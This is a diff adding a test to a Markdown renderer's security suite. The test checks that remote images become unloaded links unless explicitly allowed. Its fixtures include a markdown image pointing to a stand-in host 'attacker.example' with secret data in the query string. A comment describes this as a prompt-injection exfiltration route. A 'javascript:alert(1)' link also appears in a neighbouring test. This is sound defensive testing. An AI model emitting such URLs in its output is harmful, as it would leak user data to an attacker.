@@ -71,6 +71,30 @@ describe('Markdown security', () => {
     await expectNoAxeViolations(screen.container);
   });
 
+  it('loads no image from elsewhere unless allowed: it becomes a link a person may open', async () => {
+    // A prompt injection's way out: the URL carries what the model read, the page fetches it unasked.
+    const leak = '![chart](https://attacker.example/pixel.png?q=the+secret)';
+    const sneaky = '![logo](//attacker.example/logo.png)';
+    const screen = await render(<Markdown text={`${leak}\n\n${sneaky}\n\n![map](/static/map.png)`} />);
+    expect([...screen.container.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
+      '/static/map.png',
+    ]);
+    const link = screen.getByRole('link', { name: 'chart' });
+    await expect.element(link).toHaveAttribute('href', 'https://attacker.example/pixel.png?q=the+secret');
+    await expect.element(link).toHaveAttribute('rel', 'noopener noreferrer');
+    await expect.element(link).toHaveAttribute('title', 'Image from attacker.example, not loaded');
+    await expect.element(screen.getByRole('link', { name: 'logo' })).toBeVisible();
+    await expectNoAxeViolations(screen.container);
+    await screen.unmount();
+
+    const allowed = await render(
+      <Markdown text={leak} allowImage={(src) => src.startsWith('https://attacker.example/')} />,
+    );
+    await expect
+      .element(allowed.getByRole('img', { name: 'chart' }))
+      .toHaveAttribute('referrerpolicy', 'no-referrer');
+  });
+
   it('keeps the text of a neutralised link, unlinked', async () => {
     const screen = await render(<Markdown text="[click me](javascript:alert(1))" />);
     await expect.element(screen.getByText('click me')).toBeVisible();
